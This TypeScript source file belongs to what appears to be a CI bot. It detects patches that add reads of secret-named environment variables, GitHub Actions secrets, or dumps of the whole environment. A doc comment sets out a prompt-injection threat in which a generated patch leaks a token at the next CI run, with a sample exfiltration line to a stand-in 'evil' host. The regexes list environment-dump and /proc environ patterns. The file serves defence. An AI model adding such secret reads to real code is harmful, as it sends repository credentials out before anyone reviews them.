import { quote, type Finding } from "./greenwash.js";
import { MAKEFILE } from "./greenwash-config.js";
import { isShellScript } from "./test-entry-scripts.js";
import type { FilePatch } from "./types.js";

/**
 * Reads, added by the patch, of an environment variable named like a secret (NPM_TOKEN, DB_PASSWORD,
 * AWS_SECRET_ACCESS_KEY) or of an Actions secret. The fix branch is pushed to the repository itself, where
 * its push and pull_request workflows run with the repository's secrets: a prompt-injected patch that reads
 * one in a test (`fetch(evil + process.env.NPM_TOKEN)`) would send it out at the next CI run, before anyone
 * reviews the PR. A line the patch only removes, or moves unchanged, reads nothing new; setting a fake value
 * (`process.env.API_TOKEN = "test"`) is not a read. The whole environment printed or serialised (`env`,
 * `JSON.stringify(process.env)`, `print(os.environ)`) is one read of them all. Names and forms only: a name
 * built at run time, or the environment walked in a loop, is not seen, so this narrows what a patch can do,
 * it does not seal it.
 */
export function findSecretEnvReads(fp: FilePatch, oldContent: string | null): Finding[] {
  if (fp.status === "deleted") return [];
  const removed = new Set(fp.hunks.flatMap((h) => h.lines.filter((l) => l.kind === "-").map((l) => l.text.trim())));
  const head = oldContent ?? fp.hunks[0]?.lines.map((l) => l.text).join("\n") ?? "";
  const name = fp.path.split("/").pop()!;
  const make = MAKEFILE.test(name);
  const shell = make || SHELL_SYNTAX_FILE.test(name) || isShellScript(fp.path, head);
  for (const h of fp.hunks) {
    for (const l of h.lines) {
      if (l.kind !== "+" || removed.has(l.text.trim())) continue;
      const read = secretRead(l.text, shell, make);
      if (read === undefined) continue;
      const what =
        read === "secrets" ? "every Actions secret"
        : read === WHOLE_ENV ? "the whole environment (every secret the job has, whatever its name)"
        : /^(secrets\.|github\.token$)/.test(read) ? `the Actions secret ${read}`
        : `the environment variable ${read}, named like a secret,`;
      return [{
        rule: "read_secrets",
        file: fp.path,
        hunk: h.header,
        reason: `the patch reads ${what} in ${quote(l.text)}; CI runs the fix branch with the repository's secrets, so a new read could send one out before review. Add the read by hand, or allow read_secrets in .github/ci-bot.yml`,
      }];
    }
  }
  return [];
}

/** The secret-named variable (or `secrets.X`, or WHOLE_ENV) the line reads, if any. */
function secretRead(line: string, shell: boolean, make: boolean): string | undefined {
  if (CODE_DUMP.test(line) || (shell && SHELL_DUMPS.some((re) => re.test(line))) || (make && MAKE_DUMP.test(line))) return WHOLE_ENV;
  for (const re of CODE_READS) {
    for (const m of line.matchAll(re)) {
      const after = line.slice(m.index + m[0].length);
      // `process.env.API_TOKEN = "test"`, `os.environ["X"] = …`, `delete process.env.X`: a fixture setting or clearing it.
      if (/^\s*(=(?!=)|\?\?=|\|\|=)/.test(after) || /\bdelete\s+$/.test(line.slice(0, m.index))) continue;
      const name = m[1] ?? m[2]!;
      if (isSecretName(name)) return name;
    }
  }
  for (const m of line.matchAll(DESTRUCTURED)) {
    const name = m[1]!.split(",").map((p) => p.split(/[:=]/)[0]!.trim()).find((n) => n && isSecretName(n));
    if (name) return name;
  }
  if (!shell) return undefined;
  const actions = ACTIONS_SECRET.exec(line);
  if (actions) {
    const secret = actions[1] ?? actions[2];
    return secret !== undefined ? `secrets.${secret}` : actions[0].endsWith("github.token") ? "github.token" : "secrets";
  }
  for (const re of make ? [SHELL_READ, PRINTENV_READ, MAKE_READ] : [SHELL_READ, PRINTENV_READ]) {
    for (const m of line.matchAll(re)) if (isSecretName(m[1]!)) return m[1];
  }
  return undefined;
}

/** The value of the variable is a credential: NPM_TOKEN, DB_PASSWORD, GOOGLE_APPLICATION_CREDENTIALS, apiKey. */
export function isSecretName(name: string): boolean {
  const words = name.replace(/([a-z0-9])([A-Z])/g, "$1_$2").toUpperCase().split(/[^A-Z0-9]+/).filter(Boolean);
  // The head of a name is its last word (TOKEN_URL is a URL, KEY_COUNT a count), past qualifiers that leave
  // the value what it was (NPM_TOKEN_PROD, SECRET_KEY_BASE, API_KEY_B64).
  let i = words.length - 1;
  while (i > 0 && SAME_VALUE.test(words[i]!)) i--;
  const word = words[i];
  if (word === undefined) return false;
  const before = words[i - 1];
  if (SECRET_WORDS.has(word)) return true;
  // API_KEY, AWS_SECRET_ACCESS_KEY, SIGNING_KEY, but not CACHE_KEY, PRIMARY_KEY or SORT_KEY.
  if (word === "KEY") return before !== undefined && KEY_KINDS.has(before);
  // DB_PASS, DB_PWD, GH_PAT; alone, PASS is a loop variable, PWD the working directory and PAT a pattern.
  if (word === "PASS" || word === "PWD") return before !== undefined;
  if (word === "PAT") return before !== undefined && /^(GH|GITHUB|GITLAB|GL)$/.test(before);
  return false;
}

const SECRET_WORDS = new Set([
  "TOKEN", "TOKENS", "SECRET", "SECRETS", "PASSWORD", "PASSWORDS", "PASSWD", "PASSPHRASE", "CREDENTIAL", "CREDENTIALS",
  "CREDS", "AUTH", "AUTHORIZATION", "APIKEY", "PRIVATEKEY",
]);
const KEY_KINDS = new Set(["API", "ACCESS", "PRIVATE", "SECRET", "SIGNING", "ENCRYPTION", "MASTER", "SSH", "GPG", "PGP", "DEPLOY", "LICENSE", "HMAC", "JWT", "CLIENT"]);
const SAME_VALUE = /^(V?\d+|B64|BASE64|ENCODED|RAW|VALUE|JSON|HEADER|STR|STRING|BASE|PROD|PRODUCTION|STAGING|DEV|TEST|CI)$/;

const NAME = String.raw`([A-Za-z_][\w.-]*)`;
/** Reads in program code, each capturing the variable's name; quoted names only, as a name in a variable cannot be judged. */
const CODE_READS = [
  // process.env.X, process.env?.X, import.meta.env.X (Vite), Bun.env.X
  /(?<![\w$])(?:process\.env|Bun\.env|import\.meta\.env)(?:\?\.|\.)([A-Za-z_$][\w$]*)/g,
  // process.env["X"], os.environ["X"], environ["X"], ENV["X"] (Ruby), $_ENV['X'] and $_SERVER['X'] (PHP), $ENV{X} (Perl)
  new RegExp(String.raw`(?:(?<![\w$])(?:process\.env|Bun\.env|import\.meta\.env|(?:os\.)?environ|ENV)|\$_ENV|\$_SERVER)(?:\?\.)?\[\s*["'\`]${NAME}["'\`]\s*\]|\$ENV\{\s*["']?${NAME}`, "g"),
  // os.environ.get, os.getenv, getenv (C, PHP), System.getenv, os.Getenv, os.LookupEnv, env::var, env!, ENV.fetch, Deno.env.get, sys.env
  new RegExp(
    String.raw`(?<![\w$])(?:(?:os\.)?environ\.get|[gG]etenv|LookupEnv|(?:std::)?env::var(?:_os)?|env!|option_env!|ENV\.fetch|ENV\.key\?|Deno\.env\.get|sys\.env(?:\.get)?|Environment\.GetEnvironmentVariable)\s*\(\s*(?:r#?)?["'\`]${NAME}["'\`]`,
    "g",
  ),
];
/** `const { NPM_TOKEN, API_KEY: key } = process.env` (bounded: no quadratic scan on a line of braces). */
const DESTRUCTURED = /\{([^{}]{0,500})\}\s*=\s*(?:process|Bun)\.env\b/g;
/** Besides shell scripts and Makefiles, files whose `$X` and `${X}` are the environment's: YAML run steps, Docker, package.json scripts. */
const SHELL_SYNTAX_FILE = /^(Dockerfile.*|.+\.dockerfile|Containerfile|package\.json|[Jj]ustfile|\.env(\..+)?|.+\.ya?ml)$/;
const SHELL_READ = /\$\{?[#!]?([A-Za-z_]\w*)/g;
/** `printenv NPM_TOKEN` prints the one variable it names. */
const PRINTENV_READ = /\bprintenv\s+([A-Za-z_]\w*)/g;
/** make expands `$(NPM_TOKEN)` from the environment; in a shell it would be a command. */
const MAKE_READ = /\$[({]([A-Za-z_]\w*)[)}]/g;
/** What secretRead answers for a line that prints or serialises the whole environment. */
const WHOLE_ENV = "*";
/**
 * The whole environment as an object in code, not one variable of it (`process.env.X`, `os.environ["X"]`,
 * `ENV.fetch`). Ruby's bare `ENV` only after `puts`/`p`/`pp` (DUMP_RUBY): elsewhere it is often a constant.
 */
const ENV_OBJECT = String.raw`(?:process\.env|Bun\.env|import\.meta\.env|Deno\.env\.toObject\(\s*\)|(?:dict\(\s*)?os\.environ(?:\.copy\(\s*\))?\)?|System\.getenv\(\s*\)|os\.Environ\(\s*\)|ENV\.(?:to_h|to_hash|to_a|inspect)|\$_ENV|\$_SERVER|%ENV)(?![\w$.[])`;
/**
 * The whole environment printed or serialised, where one line sends every secret out at once: handed to
 * something that writes or encodes it. Handed on to a child process (`{ ...process.env }`, `os.environ.copy()`,
 * `append(os.Environ(), …)`) it is not.
 */
const CODE_DUMP = new RegExp(
  String.raw`(?<![\w$.])(?:console\.\w+|print|println|printf|pprint|puts|pp?|JSON\.stringify|json\.dumps?|util\.inspect|fmt\.\w+|System\.(?:out|err)\.print\w*|(?:log|logger|logging)\.\w+|repr|str|yaml\.(?:safe_)?dump|var_dump|print_r|var_export|json_encode|Dumper)(?:\s*\(\s*|\s+)${ENV_OBJECT}` +
    String.raw`|(?<![\w$.])(?:puts|pp?)\s+ENV(?![\w$.[])`,
);
/**
 * The same in shell: `env` or `printenv` alone (piped, redirected, or as `$(env)`), `export -p`, `declare -p`,
 * a bare `set`, or a process's /proc environ file; in a Makefile recipe after make's `@` or `-`. `env
 * NODE_ENV=test cmd`, `/usr/bin/env python3` and `set -e` run a command or set an option.
 */
const DUMP_COMMAND = String.raw`(?:sudo\s+)?(?:env|printenv|export\s+-p|declare\s+-[a-zA-Z]*[px][a-zA-Z]*|set|compgen\s+-[ve])\s*(?=$|[|>;&#])`;
const SHELL_DUMPS = [
  new RegExp(String.raw`(?:^|[;&|]|\bRUN\s+|\brun:\s*)\s*${DUMP_COMMAND}`),
  /\$\(\s*(?:env|printenv|export\s+-p|set)\s*\)|`\s*(?:env|printenv|set)\s*`/,
  /\/proc\/(?:self|\$\$|\d+|\*|\$\{?\w+\}?)\/environ\b/,
];
const MAKE_DUMP = new RegExp(String.raw`^\t[@-]*\s*${DUMP_COMMAND}`);
/** `${{ secrets.X }}`, `${{ secrets['X'] }}`, `${{ toJSON(secrets) }}`, `${{ github.token }}` in Actions YAML. */
const ACTIONS_SECRET = /\$\{\{[^}]*?(?:\bsecrets\b(?:\.([\w-]+)|\[\s*'([^']+)'\s*\])?|\bgithub\.token\b)/;
